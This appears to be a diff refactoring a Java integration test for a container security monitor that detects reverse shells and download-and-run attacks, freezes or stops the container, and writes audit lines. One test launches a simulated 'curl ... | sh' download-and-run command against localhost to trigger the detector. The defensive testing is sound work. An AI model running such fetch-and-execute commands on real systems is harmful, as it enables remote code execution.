@@ -1,6 +1,7 @@
 package dev.coi.kernel.sessions;
 
 import static dev.coi.kernel.sessions.SessionTestBed.assertExit;
+import static dev.coi.kernel.sessions.SessionTestBed.await;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
@@ -20,8 +21,6 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
 import java.util.Map;
-import java.util.function.BooleanSupplier;
-import java.util.function.Supplier;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -87,19 +86,20 @@ class MonitorIT {
             // the shell that starts the attack is one itself: it may be stopped with the container before it ends
         }
 
-        await(RESPONSE, () -> bed.container(1).isEmpty(), () -> "the container still runs\n" + keeperLog());
+        await(RESPONSE, () -> bed.container(1).isEmpty(), () -> "the container still runs\n" + bed.keeperLog());
         System.out.println("[monitor] reverse shell to container gone: "
                 + Duration.between(attacked, Instant.now()).toMillis() + " ms");
         List<Instance> copies = bed.incus.instances().stream()
                 .filter(instance -> instance.name().startsWith(container + "-forensic-")).toList();
-        assertEquals(1, copies.size(), this::keeperLog);
+        assertEquals(1, copies.size(), bed::keeperLog);
         assertTrue(copies.get(0).isStopped());
         assertEquals("none", copies.get(0).expandedDevices().get("eth0").get("type"), "the copy has no network");
         assertEquals("none", copies.get(0).expandedDevices().get("workspace").get("type"), "nor the workspace");
-        assertTrue(copies.get(0).expandedDevices().values().stream().allMatch(device -> "none".equals(device.get("type"))
-                || "/".equals(device.get("path"))), () -> "no host folder: " + copies.get(0).expandedDevices());
+        assertTrue(copies.get(0).expandedDevices().values().stream()
+                .allMatch(device -> "none".equals(device.get("type")) || "/".equals(device.get("path"))),
+                () -> "no host folder: " + copies.get(0).expandedDevices());
         // the line says what was done, so it is written once the copy is made and the session ended
-        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no audit line\n" + keeperLog());
+        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no audit line\n" + bed.keeperLog());
         JsonNode event = new ObjectMapper().readTree(read(audit).lines().findFirst().orElseThrow());
         assertEquals("reverse-shell", event.path("detector").asText(), event::toString);
         assertEquals("critical", event.path("level").asText());
@@ -123,13 +123,13 @@ class MonitorIT {
         Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");
 
         CommandResult attack = bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f sh -c"
-                + " 'curl -fsS http://127.0.0.1:9/install.sh | sh; sleep 300' </dev/null >/dev/null 2>&1; echo started"),
-                AS_CODE);
+                + " 'curl -fsS http://127.0.0.1:9/install.sh | sh; sleep 300' </dev/null >/dev/null 2>&1;"
+                + " echo started"), AS_CODE);
         assertEquals(0, attack.exitCode(), attack::toString);
 
         await(RESPONSE, () -> bed.container(1).map(Instance::isFrozen).orElse(false),
-                () -> "the container is not frozen\n" + keeperLog());
-        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no audit line\n" + keeperLog());
+                () -> "the container is not frozen\n" + bed.keeperLog());
+        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no audit line\n" + bed.keeperLog());
         JsonNode event = new ObjectMapper().readTree(read(audit).lines().findFirst().orElseThrow());
         assertEquals("download-and-run", event.path("detector").asText(), event::toString);
         assertEquals("high", event.path("level").asText());
@@ -139,7 +139,8 @@ class MonitorIT {
         assertEquals(0, unfreeze.exitCode(), unfreeze::toString);
         assertTrue(bed.container(1).map(Instance::isRunning).orElse(false));
         Thread.sleep(QUIET.toMillis());
-        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false), "the user's choice holds: " + keeperLog());
+        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false),
+                () -> "the user's choice holds: " + bed.keeperLog());
         assertEquals(1, read(audit).lines().count(), "the same process is reported once");
     }
 
@@ -148,25 +149,6 @@ class MonitorIT {
             return Files.exists(file) ? Files.readString(file) : "";
         } catch (IOException e) {
             throw new AssertionError(e);
-        }
-    }
-
-    private String keeperLog() {
-        return read(bed.home.resolve(".coi/logs/keeper.log"));
-    }
-
-    private static void await(Duration timeout, BooleanSupplier done, Supplier<String> failure) {
-        long deadline = System.nanoTime() + timeout.toNanos();
-        while (!done.getAsBoolean()) {
-            if (System.nanoTime() > deadline) {
-                throw new AssertionError(failure.get());
-            }
-            try {
-                Thread.sleep(200);
-            } catch (InterruptedException e) {
-                Thread.currentThread().interrupt();
-                throw new AssertionError("interrupted", e);
-            }
         }
     }
 }
